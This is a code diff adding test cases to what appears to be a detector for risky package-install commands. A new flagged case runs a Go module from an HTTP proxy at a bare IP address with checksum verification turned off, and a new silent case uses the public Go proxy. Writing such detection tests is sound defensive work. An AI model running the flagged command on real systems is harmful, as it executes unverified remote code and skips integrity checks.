@@ -24,8 +24,14 @@ indicatorTable(commandPackageFromAddress, {
         },
       ],
     }),
+    'a proxy for modules of Go': script(
+      'GONOSUMDB=* GOPROXY=http://203.0.113.7:8081 go run tool.example.com/agent@latest',
+    ),
   },
   staysSilent: {
+    'the public proxy for modules of Go': script(
+      'GOPROXY=https://proxy.golang.org,direct go install golang.org/x/vuln/cmd/govulncheck@v1.1.3',
+    ),
     'the public index': script('pip install --no-cache-dir requests==2.32.0'),
     'a mirror with a name': script('pip install -i https://pypi.example.com/simple --trusted-host pypi.example.com a'),
     'a mirror by an address for private use': script('pip install -i http://10.20.0.5:3141/root/pypi a'),
